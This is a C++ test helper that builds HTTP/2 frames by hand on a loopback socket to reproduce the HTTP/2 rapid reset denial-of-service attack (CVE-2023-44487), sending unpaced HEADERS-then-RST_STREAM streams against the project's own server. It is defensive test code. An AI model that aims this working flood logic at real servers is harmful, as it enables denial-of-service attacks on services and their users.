// RawH2Client: an HTTP/2 client connection written frame by frame on a
// plain socket, for attacks no client library would send (test-only): HTTP/2
// rapid reset (CVE-2023-44487), HEADERS then RST_STREAM, unpaced.
#pragma once

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <string>
#include <string_view>
#include <thread>

#include "common/http_get.h"

namespace kvidx::testing {

namespace h2 {

constexpr uint8_t kHeaders = 0x1;
constexpr uint8_t kRstStream = 0x3;
constexpr uint8_t kSettings = 0x4;
constexpr uint8_t kPing = 0x6;
constexpr uint8_t kEndHeaders = 0x4;
constexpr uint8_t kAck = 0x1;
constexpr uint32_t kCancel = 0x8;

inline void PutU32(std::string* out, uint32_t v) {
  for (int shift : {24, 16, 8, 0}) out->push_back(static_cast<char>((v >> shift) & 0xff));
}

inline void PutFrameHeader(std::string* out, uint32_t len, uint8_t type, uint8_t flags, uint32_t stream) {
  for (int shift : {16, 8, 0}) out->push_back(static_cast<char>((len >> shift) & 0xff));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  PutU32(out, stream & 0x7fffffffu);
}

// One HPACK "literal header field without indexing -- new name", no
// Huffman; names and values here are shorter than 127 bytes.
inline void PutLiteral(std::string* block, std::string_view name, std::string_view value) {
  block->push_back(0x00);
  block->push_back(static_cast<char>(name.size()));
  block->append(name);
  block->push_back(static_cast<char>(value.size()));
  block->append(value);
}

inline std::string GrpcRequestHeaders(std::string_view path) {
  std::string b;
  PutLiteral(&b, ":method", "POST");
  PutLiteral(&b, ":scheme", "http");
  PutLiteral(&b, ":path", path);
  PutLiteral(&b, ":authority", "127.0.0.1");
  PutLiteral(&b, "content-type", "application/grpc");
  PutLiteral(&b, "te", "trailers");
  return b;
}

}  // namespace h2

// A thread reads and drops whatever the server sends, so the server's
// writes never stall on us.
class RawH2Client {
 public:
  explicit RawH2Client(int port) {
    fd_ = ConnectLoopback(port, 0);
    connected_ = fd_ >= 0;
    timeval tv{10, 0};
    setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    h2::PutFrameHeader(&hello, 0, h2::kSettings, 0, 0);
    h2::PutFrameHeader(&hello, 0, h2::kSettings, h2::kAck, 0);
    connected_ = connected_ && Send(hello);
    drain_ = std::thread([this] { Drain(); });
  }
  ~RawH2Client() {
    shutdown(fd_, SHUT_RDWR);
    drain_.join();
    close(fd_);
  }

  // Opens `n` streams on `path`, each reset right after its HEADERS.
  // False once the server has closed the connection.
  bool RapidReset(int n, std::string_view path) {
    const std::string block = h2::GrpcRequestHeaders(path);
    std::string batch;
    for (int i = 0; i < n; ++i) {
      h2::PutFrameHeader(&batch, static_cast<uint32_t>(block.size()), h2::kHeaders, h2::kEndHeaders, next_stream_);
      batch += block;
      h2::PutFrameHeader(&batch, 4, h2::kRstStream, 0, next_stream_);
      h2::PutU32(&batch, h2::kCancel);
      next_stream_ += 2;
      if (batch.size() >= 64 * 1024 || i + 1 == n) {
        if (!Send(batch)) return false;
        batch.clear();
      }
    }
    return connected_;
  }

  // Sends a PING and waits for its ACK: the server has then parsed every
  // frame sent before it (and created a call for each HEADERS).
  bool PingPong(std::chrono::seconds timeout) {
    const int acks = ping_acks_.load();
    std::string ping;
    h2::PutFrameHeader(&ping, 8, h2::kPing, 0, 0);
    ping.append(8, '\x42');
    if (!Send(ping)) return false;
    const auto end = std::chrono::steady_clock::now() + timeout;
    while (ping_acks_.load() == acks) {
      if (closed_by_server_.load() || std::chrono::steady_clock::now() > end) return false;
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    return true;
  }

 private:
  // Reads frames until the connection ends, counting PING ACKs.
  void Drain() {
    std::string in;
    char buf[65536];
    for (;;) {
      const ssize_t n = recv(fd_, buf, sizeof buf, 0);
      if (n <= 0) break;
      in.append(buf, static_cast<size_t>(n));
      size_t off = 0;
      while (in.size() - off >= 9) {
        const auto* h = reinterpret_cast<const uint8_t*>(in.data() + off);
        const size_t len = (size_t{h[0]} << 16) | (size_t{h[1]} << 8) | h[2];
        if (in.size() - off < 9 + len) break;
        if (h[3] == h2::kPing && (h[4] & h2::kAck) != 0) ping_acks_.fetch_add(1);
        off += 9 + len;
      }
      in.erase(0, off);
    }
    closed_by_server_.store(true);
  }

  bool Send(const std::string& bytes) {
    size_t off = 0;
    while (off < bytes.size()) {
      const ssize_t n = send(fd_, bytes.data() + off, bytes.size() - off, MSG_NOSIGNAL);
      if (n <= 0) return false;
      off += static_cast<size_t>(n);
    }
    return true;
  }

  int fd_ = -1;
  bool connected_ = false;
  uint32_t next_stream_ = 1;
  std::atomic<bool> closed_by_server_{false};
  std::atomic<int> ping_acks_{0};
  std::thread drain_;
};

}  // namespace kvidx::testing
